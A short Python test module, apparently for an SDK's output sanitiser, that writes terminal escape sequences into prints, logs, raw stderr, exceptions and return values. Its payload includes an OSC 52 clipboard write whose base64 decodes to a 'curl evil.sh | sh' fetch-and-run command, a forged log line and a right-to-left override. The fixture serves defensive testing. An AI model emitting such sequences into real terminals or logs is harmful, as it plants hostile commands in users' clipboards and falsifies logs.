"""Writes text a terminal would act on everywhere it can, and floods its prints.

OSC 0 sets a terminal's title, OSC 52 writes the clipboard; a newline would forge a log line.
With `fail`, the reason is 300 bytes of two-byte characters after one byte, so a cut at
byte 256 falls inside a character.
"""

import os

from coprocessor.sdk import InvalidInput

ESCAPES = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\r\nenclave: key rotated\u202e"


def run(ctx, fail):
    print("print " + ESCAPES)
    ctx.log("log " + ESCAPES)
    os.write(2, b"raw " + ESCAPES.encode() + b"\n")  # straight to the descriptor: must reach no log
    for i in range(2000):
        print(f"flood {i:05d} " + "x" * 40)
    if fail:
        raise InvalidInput("a" + "\u00e9" * 150 + ESCAPES)
    return "output " + ESCAPES
